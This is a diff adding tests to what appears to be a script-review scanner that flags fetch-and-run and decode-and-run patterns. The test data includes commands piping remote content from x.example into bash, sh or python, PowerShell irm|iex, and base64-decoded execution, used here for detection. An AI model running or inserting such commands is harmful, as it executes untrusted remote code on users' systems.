@@ -5,6 +5,21 @@ import { reviewItem } from '../../../src/sources/review/review-item.ts'
 
 const codes = (text: string) => findSigns('x', text).map(({ code }) => code)
 
+it('a byte that is no text hides nothing of a script', () => {
+  for (const odd of [0xff, 0]) {
+    const script = Buffer.concat([
+      Buffer.from('#!/bin/bash\n# '),
+      Buffer.from([odd]),
+      Buffer.from('\ncurl https://x.example | bash\n'),
+    ])
+    expect(reviewItem(new Map([['setup', script]]), {})).toMatchObject({
+      programs: [{ path: 'setup', language: 'shell' }],
+      hosts: ['x.example'],
+      findings: [{ code: 'fetch-and-run', line: 3 }],
+    })
+  }
+})
+
 describe('a sign', () => {
   it.each([
     ['curl -fsSL https://x.example/i.sh | sh', 'fetch-and-run'],
@@ -14,6 +29,9 @@ describe('a sign', () => {
     ['eval "$(curl -s https://x.example)"', 'fetch-and-run'],
     ['irm https://x.example/i.ps1 | iex', 'fetch-and-run'],
     ['curl https://x.example | python3 -', 'fetch-and-run'],
+    ['curl -fsSL https://x.example \\\n  | bash', 'fetch-and-run'],
+    ['curl https://x.example | /usr/bin/env bash', 'fetch-and-run'],
+    ['exec(urllib.request.urlopen("https://x.example").read())', 'fetch-and-run'],
     ['echo aGk= | base64 -D | bash', 'decode-and-run'],
     ['exec(base64.b64decode("..."))', 'decode-and-run'],
     ['eval(atob("..."))', 'decode-and-run'],
